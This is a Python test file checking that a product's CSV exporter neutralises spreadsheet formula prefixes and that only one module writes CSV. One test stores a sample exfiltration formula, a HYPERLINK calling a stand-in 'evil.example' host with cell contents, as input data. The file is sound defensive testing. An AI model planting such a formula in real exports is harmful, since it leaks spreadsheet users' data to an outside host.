"""CSV the product writes: formula prefixes are neutralised, and `cdp.csvsafe` is the only writer."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from cdp.csvsafe import neutralise, write_csv

ROOT = Path(__file__).resolve().parents[2]
PACKAGES = ("cdp", "cli", "graph", "agents", "llm", "prompts")


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_prefix_gets_a_leading_quote(prefix):
    assert neutralise(f"{prefix}HYPERLINK(1)") == f"'{prefix}HYPERLINK(1)"


def test_plain_cells_numbers_and_none_are_left_alone():
    assert [neutralise(v) for v in ("Ann", "a=b", "", None, -5, 2.5, 0)] == ["Ann", "a=b", "", "", -5, 2.5, 0]


def test_a_formula_stored_raw_in_the_cdp_is_exported_as_text(cdp_db):
    with cdp_db.conn:  # written past the import's checks, by another SQLite client
        cdp_db.execute(
            "INSERT INTO profiles (profile_id, first_name, last_name, signup_at) VALUES "
            "('p1', '=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")', '@SUM(A1)', '2025-01-01T00:00:00Z')"
        )
    out = io.StringIO(newline="")
    rows = cdp_db.execute("SELECT profile_id, first_name, last_name, lifetime_value FROM profiles")
    assert write_csv(out, ["profile_id", "first_name", "=last_name", "lifetime_value"], rows) == 1
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    assert header == ["profile_id", "first_name", "'=last_name", "lifetime_value"]
    assert row == ["p1", '\'=HYPERLINK("http://evil.example/?"&A1,"open")', "'@SUM(A1)", "0.0"]


def test_no_module_of_the_product_writes_csv_but_csvsafe():
    writers = re.compile(
        r"csv\.(writer|DictWriter)\b|\bDictWriter\(|from csv import .*\b(writer|DictWriter)\b"
    )
    offenders = [
        str(path.relative_to(ROOT))
        for package in PACKAGES
        if (ROOT / package).is_dir()
        for path in sorted((ROOT / package).rglob("*.py"))
        if path != ROOT / "cdp" / "csvsafe.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == [], f"write CSV through cdp.csvsafe.write_csv: {offenders}"
